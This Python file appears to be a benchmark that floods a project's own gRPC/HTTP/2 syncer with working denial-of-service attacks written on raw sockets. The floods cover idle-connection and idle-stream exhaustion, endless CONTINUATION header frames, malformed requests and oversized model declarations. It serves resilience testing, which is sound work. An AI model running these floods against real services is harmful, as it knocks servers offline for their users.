"""Senders that mean harm, written on bare sockets: what a client library would not do.

    python -m benchmarks.hostile ADDRESS FLOOD SIZE [--keys DIR] [--source ADDRESS] [--seconds S]

Each flood keeps its size up for as long as it lasts: a connection that the syncer ends is dialled again. Prints one
line of JSON: how much was open or sent, and how often the syncer hung up.
"""

from __future__ import annotations

import argparse
import json
import select
import selectors
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterable
from contextlib import suppress
from dataclasses import asdict, dataclass
from pathlib import Path

from safetensors import serialize

from diloco.exchange.wire import syncer_pb2 as pb
from diloco.exchange.wire.rpc import path

RUN, VILLAIN = "besieged", "villain"
"""The run that is flooded, and the learner whose certificate a flood shows where it shows one."""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, PING, CONTINUATION = 0, 1, 4, 6, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
_FRAME = struct.Struct(">HBBBI")  # length (high 16 bits, low 8 bits), type, flags, stream

STREAMS_OF_A_CONNECTION = 100
DIALS_PER_S, SILENT_DIALS_PER_S = 100, 2000
"""New connections a second at most, and of those that shake no hands: a sender's own processor time is not the
syncer's."""

UNANSWERED_S = 0.5
"""After so long a sender dials another connection for one that is not there."""

_BIND_ADDRESS_NO_PORT = 24  # <linux/in.h>: the port is chosen when it dials


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113, 4.1)."""
    return _FRAME.pack(len(payload) >> 8, len(payload) & 255, kind, flags, stream) + payload


def _text(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 127 + 128  # two bytes of length at most
    return (bytes([len(data)]) if len(data) < 127 else bytes([127, len(data) - 127])) + data


def headers(method: str) -> bytes:
    """A header block of a gRPC call, without any compression (RFC 7541, 6.2.2)."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path(method)), (":authority", "syncer")]
    fields += [("te", "trailers"), ("content-type", "application/grpc")]
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)


ENDLESS = b"\0" + _text("x-long") + b"\x7f\x80\x80\x80\x80\x04"
"""A header whose value of a gigabyte begins."""


def message(data: bytes) -> bytes:
    """A gRPC message in DATA frames' payload."""
    return b"\0" + len(data).to_bytes(4, "big") + data


@dataclass
class Target:
    """Where a flood goes, and what its sender shows. `keys`: a directory of `diloco keys`; None: no certificate.

    Attributes:
        tls: whether the port speaks TLS.
        source: the address that the sender dials from; "": as the system chooses.
    """

    address: str
    tls: bool = False
    keys: Path | None = None
    source: str = ""

    def dial(self) -> socket.socket:
        """A connection that begins; it is there once it can be written to.

        Raises:
            OSError: the system cannot.
        """
        host, _, port = self.address.rpartition(":")
        plain = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        plain.setblocking(False)
        try:
            if self.source:
                plain.setsockopt(socket.IPPROTO_IP, _BIND_ADDRESS_NO_PORT, 1)
                plain.bind((self.source, 0))
            with suppress(BlockingIOError):
                plain.connect((host.strip("[]"), int(port)))
        except OSError:
            plain.close()
            raise
        return plain

    def greet(self, plain: socket.socket) -> socket.socket:
        """What speaks over a connection; with TLS, after the handshake.

        Raises:
            OSError: refused.
        """
        plain.settimeout(5.0)
        if not self.tls:
            return plain
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if self.keys is not None:
            context.load_cert_chain(self.keys / "cert.pem", self.keys / "key.pem")
        try:
            return context.wrap_socket(plain)
        except OSError:
            plain.close()
            raise


class Http2:
    """One HTTP/2 connection that answers settings and pings, so that the syncer has no reason to hang up.

    Arguments:
        plain: a connection that is there; None: it is dialled.
    """

    def __init__(self, target: Target, plain: socket.socket | None = None) -> None:
        if plain is None:
            plain = target.dial()
            select.select([], [plain], [], 5.0)
        self.socket = target.greet(plain)
        self._received = bytearray()
        self._is_mid_headers = False
        try:
            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        except OSError:
            self.socket.close()
            raise
        self.socket.settimeout(0.0)

    def begin_headers(self, block: bytes) -> None:
        """Begin a header block that does not end: no other frame may follow (RFC 9113, 6.10). Raises as `send`."""
        self._is_mid_headers = True
        self.send(frame(HEADERS, 0, 1, block))

    def send(self, data: bytes, timeout_s: float = 2.0) -> None:
        """All of it. Raises OSError: the syncer hung up, or reads no more."""
        self.socket.settimeout(timeout_s)
        try:
            self.socket.sendall(data)
        finally:
            self.socket.settimeout(0.0)

    def answer(self) -> bool:
        """Read what has come, and answer it; False: the syncer hung up."""
        while True:
            try:
                data = self.socket.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError):
                return True
            except OSError:
                return False
            if not data:
                return False
            self._received += data
            if not self._answer_frames():
                return False

    def _answer_frames(self) -> bool:
        while len(self._received) >= _FRAME.size:
            high, low, kind, flags, _ = _FRAME.unpack_from(self._received)
            end = _FRAME.size + (high << 8 | low)
            if len(self._received) < end:
                break
            payload = bytes(self._received[_FRAME.size : end])
            del self._received[:end]
            if kind == PING and not flags & ACK and not self._is_mid_headers:
                try:
                    self.send(frame(PING, ACK, 0, payload))
                except OSError:
                    return False
        return True

    def close(self) -> None:
        self.socket.close()


@dataclass
class Outcome:
    """What a flood came to: connections and streams open at once at most, bytes sent, connections that were dialled,
    that the syncer ended or refused, and that nothing answered."""

    most_open: int = 0
    sent_bytes: int = 0
    num_dialled: int = 0
    num_ended: int = 0
    num_unanswered: int = 0


class Flood:
    """Keeps `num_connections` open until `end`.

    Arguments:
        opened: what is done on each when it is new. `pressed`: what is done on each again and again; it may be nothing.
    """

    def __init__(
        self, target: Target, num_connections: int, *, speaks: bool = True,
        opened: Callable[[Http2], int] = lambda _: 0, pressed: Callable[[Http2], int] | None = None,
    ) -> None:  # fmt: skip
        self._target, self._wanted, self._is_current = target, num_connections, speaks
        self._opened, self._pressed = opened, pressed
        self._selector = selectors.DefaultSelector()
        self._dialling: dict[socket.socket, float] = {}  # since when
        self._open: dict[socket.socket, Http2 | None] = {}
        self.outcome = Outcome()

    def run(self, seconds: float) -> Outcome:
        """Returns after `seconds`."""
        ends_at = time.monotonic() + seconds
        dialled_at, per_s = time.monotonic(), DIALS_PER_S if self._is_current else SILENT_DIALS_PER_S
        while (now := time.monotonic()) < ends_at:
            due = min(self._wanted - len(self._open), int((now - dialled_at) * per_s))
            if due > 0:
                dialled_at = now
            for _ in range(due):
                self._dial(now)
                if time.monotonic() > ends_at:
                    break
            self._give_up(now)
            self._hear(0.0 if self._pressed and self._open else 0.005)
            if self._pressed is not None:
                for connection in [it for it in self._open.values() if it is not None]:
                    self._press(connection)
            self.outcome.most_open = max(self.outcome.most_open, len(self._open))
        for each in [*self._open, *self._dialling]:
            each.close()
        return self.outcome

    def _dial(self, now: float) -> None:
        self.outcome.num_dialled += 1
        try:
            plain = self._target.dial()
        except OSError:
            self.outcome.num_ended += 1
            return
        self._dialling[plain] = now
        self._selector.register(plain, selectors.EVENT_WRITE)

    def _give_up(self, now: float) -> None:
        """Connections that do not come."""
        for plain in [plain for plain, since in self._dialling.items() if now - since > UNANSWERED_S]:
            self.outcome.num_unanswered += 1
            self._selector.unregister(plain)
            del self._dialling[plain]
            plain.close()

    def _dialled(self, plain: socket.socket) -> None:
        del self._dialling[plain]
        self._selector.unregister(plain)
        connection = None
        try:
            if error := plain.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                raise OSError(error, "refused")
            if self._is_current:
                connection = Http2(self._target, plain)
                self.outcome.sent_bytes += self._opened(connection)
                plain = connection.socket
        except OSError:
            self.outcome.num_ended += 1
            plain.close()
            if connection is not None:
                connection.close()
            return
        self._open[plain] = connection
        self._selector.register(plain, selectors.EVENT_READ)

    def _hear(self, timeout_s: float) -> None:
        for key, _ in self._selector.select(timeout_s):
            plain = key.fileobj
            assert isinstance(plain, socket.socket)
            if plain in self._dialling:
                self._dialled(plain)
                continue
            connection = self._open[plain]
            if connection is None:
                with suppress(BlockingIOError):
                    try:
                        is_open = bool(plain.recv(1 << 16))
                    except ConnectionError:
                        is_open = False
                    if not is_open:
                        self._ended(plain)
            elif not connection.answer():
                self._ended(plain)

    def _press(self, connection: Http2) -> None:
        assert self._pressed is not None
        try:
            self.outcome.sent_bytes += self._pressed(connection)
        except OSError:
            self._ended(connection.socket)

    def _ended(self, plain: socket.socket) -> None:
        self._selector.unregister(plain)
        del self._open[plain]
        plain.close()
        self.outcome.num_ended += 1


def idle_sockets(target: Target, size: int) -> Flood:
    """`size` connections that say nothing; with a certificate, after the handshake of TLS and HTTP/2."""
    return Flood(target, size, speaks=target.keys is not None)


def idle_streams(target: Target, size: int, method: str = "Push") -> Flood:
    """`size` calls of which nothing but the headers come."""

    def opened(connection: Http2) -> int:
        block = headers(method)
        data = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(STREAMS_OF_A_CONNECTION))
        connection.send(data)
        return len(data)

    return Flood(target, -(-size // STREAMS_OF_A_CONNECTION), opened=opened)


def continuations(target: Target, size: int) -> Flood:
    """`size` megabytes a second of headers that do not end, over four connections."""
    block = headers("Push")
    piece = b"".join(frame(CONTINUATION, 0, 1, b"a" * 16384) for _ in range(16))
    sent = {"bytes": 0, "from": time.monotonic()}

    def opened(connection: Http2) -> int:
        connection.begin_headers(block + ENDLESS)
        return len(block)

    def pressed(connection: Http2) -> int:
        if sent["bytes"] > (time.monotonic() - sent["from"]) * size * 1e6:
            time.sleep(0.001)
            return 0
        connection.send(piece)
        sent["bytes"] += len(piece)
        return len(piece)

    return Flood(target, 4, opened=opened, pressed=pressed)


def calls(target: Target, size: int, method: str, data: bytes) -> Flood:
    """`size` calls of one message each, over four connections, sixteen at a time."""
    numbers: dict[Http2, int] = {}
    left = [size]
    block, body = headers(method), message(data)
    pieces = [body[start : start + 16384] for start in range(0, len(body), 16384)]

    def pressed(connection: Http2) -> int:
        num_sent = 0
        for _ in range(min(16, left[0])):
            stream = numbers[connection] = numbers.get(connection, -1) + 2
            whole = frame(HEADERS, END_HEADERS, stream, block)
            whole += b"".join(
                frame(DATA, END_STREAM if piece is pieces[-1] and method not in ("Push", "Initialise") else 0, stream,
                      piece)
                for piece in pieces
            )  # fmt: skip
            connection.send(whole)
            left[0] -= 1
            num_sent += len(whole)
        time.sleep(0.005)
        return num_sent

    return Flood(target, 4, pressed=pressed)


def undecodable(target: Target, size: int) -> Flood:
    """`size` unary requests that are no messages."""
    return calls(target, size, "Heartbeat", b"\xff" * 64)


def initialisations(target: Target, size: int) -> Flood:
    """`size` streams that declare a model of two gigabytes each, and bring none of it."""
    num_elements = 1 << 29
    layout = {"fragments": [[["weight", [num_elements], "float32"]]], "static": []}
    header = pb.InitialiseHeader(
        run=RUN, learner=VILLAIN, layout=json.dumps(layout), part_bytes=[4 * num_elements, len(serialize({}))]
    )
    return calls(target, size, "Initialise", header.SerializeToString())


FLOODS: dict[str, Callable[[Target, int], Flood]] = {
    "idle streams": idle_streams,
    "idle sockets": idle_sockets,
    "continuations": continuations,
    "initialisations": initialisations,
    "undecodable requests": undecodable,
}


def main(arguments: Iterable[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("flood", choices=tuple(FLOODS))
    parser.add_argument("size", type=int)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--keys", type=Path)
    parser.add_argument("--source", default="", help="the address to dial from")
    parser.add_argument("--seconds", type=float, default=10.0)
    chosen = parser.parse_args(None if arguments is None else list(arguments))
    target = Target(chosen.address, chosen.tls, chosen.keys, chosen.source)
    print(flush=True)  # it begins
    print(json.dumps(asdict(FLOODS[chosen.flood](target, chosen.size).run(chosen.seconds))), flush=True)


if __name__ == "__main__":
    main()
